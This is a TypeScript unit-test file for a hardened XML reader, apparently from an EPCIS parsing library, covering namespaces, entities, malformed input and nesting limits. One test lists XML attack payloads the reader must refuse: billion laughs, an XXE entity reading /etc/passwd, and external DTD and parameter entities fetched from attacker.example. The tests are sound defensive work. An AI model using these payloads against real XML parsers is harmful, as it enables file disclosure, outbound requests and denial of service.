import { DEFAULT_LIMITS } from './limits';
import { EpcisParseError } from './parse-error';
import { XmlElement, readXml } from './xml';

const read = (xml: string, maxDepth = DEFAULT_LIMITS.maxDepth) => readXml(xml, { ...DEFAULT_LIMITS, maxDepth });
const rootOf = (xml: string) => read(xml).root;

function ruleOf(xml: string, maxDepth?: number): string {
  try {
    read(xml, maxDepth);
  } catch (error) {
    expect(error).toBeInstanceOf(EpcisParseError);
    return (error as EpcisParseError).rule;
  }
  throw new Error('expected a parse error');
}

describe('readXml', () => {
  it('resolves namespaces per element scope, default namespaces included', () => {
    const { root, declarations } = read(
      '<a:doc xmlns:a="urn:a" xmlns="urn:default"><child a:x="1" y="2"/>' +
        '<a:inner xmlns:a="urn:other"><plain xmlns=""/></a:inner></a:doc>',
    );
    const [child, inner] = root.children;
    expect([root.ns, root.local, root.prefix]).toEqual(['urn:a', 'doc', 'a']);
    expect(child.ns).toBe('urn:default');
    expect(child.attributes).toEqual([
      { ns: 'urn:a', local: 'x', prefix: 'a', value: '1' },
      { ns: '', local: 'y', prefix: '', value: '2' }, // unprefixed attributes are in no namespace
    ]);
    expect(inner.ns).toBe('urn:other');
    expect(inner.children[0].ns).toBe('');
    expect(declarations).toEqual([
      { prefix: 'a', uri: 'urn:a' },
      { prefix: '', uri: 'urn:default' },
      { prefix: 'a', uri: 'urn:other' },
      { prefix: '', uri: '' },
    ]);
  });

  it('expands only the predefined entities and character references; CDATA stays literal', () => {
    const root = rootOf(`<r a="x&amp;y&#x9;&lt;\tz">&lt;&gt;&amp;&apos;&quot; &#65;&#x1F600; <![CDATA[&amp; <b>]]></r>`);
    expect(root.attributes[0].value).toBe('x&y\t< z'); // a literal tab normalises to a space, &#x9; does not
    expect(root.text).toBe(`<>&'" A\u{1F600} &amp; <b>`);
  });

  it('skips comments, processing instructions and the XML declaration, and normalises line ends', () => {
    const prolog = '<?xml version="1.0" encoding="UTF-8"?>\r\n<!-- c --><?pi data?>';
    const root = rootOf(`${prolog}<r>a\r\nb<!-- <x> --></r>\n<!-- end -->`);
    expect(root.text).toBe('a\nb');
    expect(root.children).toEqual([]);
  });

  it.each([
    ['mismatched end tag', '<a><b></a></b>'],
    ['unclosed element', '<a><b></b>'],
    ['two roots', '<a/><b/>'],
    ['text outside the root', '<a/>text'],
    ['no root', '  <!-- nothing -->'],
    ['undeclared prefix', '<p:a/>'],
    ['undeclared attribute prefix', '<a p:x="1"/>'],
    ['undeclared entity', '<a>&nbsp;</a>'],
    ['bare ampersand', '<a>fish & chips</a>'],
    ['character reference to a non-character', '<a>&#0;</a>'],
    ['repeated attribute', '<a x="1" x="2"/>'],
    ['unquoted attribute', '<a x=1/>'],
    ['< in an attribute value', '<a x="<"/>'],
    ['control character', '<a>\u0001</a>'],
    ['XML declaration not at the start', ' <?xml version="1.0"?><a/>'],
    ['unterminated comment', '<a><!-- </a>'],
    ['unterminated CDATA', '<a><![CDATA[ </a>'],
    ['empty comment trick', '<a><!--></a>'],
    ['prefix bound to an empty namespace', '<a xmlns:p=""/>'],
  ])('refuses malformed XML: %s', (_, xml) => {
    expect(ruleOf(xml)).toBe('malformed-xml');
  });

  it('reports the position of the fault', () => {
    expect(() => read('<a>\n  <b></c>\n</a>')).toThrow(/line 2, column 6/);
  });

  it.each([
    ['billion laughs', '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>'],
    ['external entity', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'],
    ['parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>'],
    ['external DTD', '<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>'],
    ['harmless DOCTYPE', '<!DOCTYPE r><r/>'],
    ['lower-case doctype', '<!doctype r><r/>'],
    ['entity declaration outside a DOCTYPE', '<r><!ENTITY x "y"></r>'],
  ])('refuses any DTD before reading: %s', (_, xml) => {
    expect(ruleOf(xml)).toBe('xml-doctype');
  });

  it('bounds nesting while reading, without recursion', () => {
    const nested = (depth: number) => '<a>'.repeat(depth) + '</a>'.repeat(depth);
    expect(() => read(nested(64))).not.toThrow();
    expect(ruleOf(nested(65))).toBe('too-deep');
    expect(ruleOf(nested(200_000), 1000)).toBe('too-deep');
  });

  it('keeps element order and repeated names', () => {
    const names = (el: XmlElement) => el.children.map((c) => c.local);
    expect(names(rootOf('<r><b/><a/><b/></r>'))).toEqual(['b', 'a', 'b']);
  });
});
